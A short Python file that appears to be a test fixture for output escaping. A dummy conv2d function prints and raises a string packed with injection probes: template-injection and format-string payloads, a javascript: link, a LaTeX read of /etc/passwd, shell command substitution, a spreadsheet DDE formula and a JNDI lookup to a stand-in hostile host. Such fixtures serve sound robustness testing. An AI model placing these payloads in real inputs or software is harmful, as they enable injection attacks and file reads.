"""Prints and raises the markup of Rich, Jinja, Markdown, LaTeX, shells, tables and formulas."""

import numpy as np

TEXT = (
    "[bold green]accepted[/bold green] [link=http://hostile.invalid]x[/link] [/] :smile: [@click=app.bell]x[/] "
    "{{ record.verdict }} {{ ''.__class__.__mro__ }} {% for x in range(10**9) %}{% endfor %} {# comment #} "
    "![x](javascript:alert(1)) [x]: http://hostile.invalid ``` ~~~ | a | b | <details open> "
    "\\input{/etc/passwd} $(touch /tmp/hostile-shell) `touch /tmp/hostile-shell` ; ' \" "
    "=cmd|' /C calc'!A0 @SUM(1) +1 -1 %s %n {0} {x!r} ${jndi:ldap://hostile.invalid/a}"
)


def conv2d(x, weight, bias=None, stride=(1, 1), padding=(0, 0)):
    print(TEXT)
    if x.ndim == 4:
        return np.zeros((1, 1), [("[bold]{{ 7 * 7 }}[/]", "f4")])
    raise ValueError(TEXT)
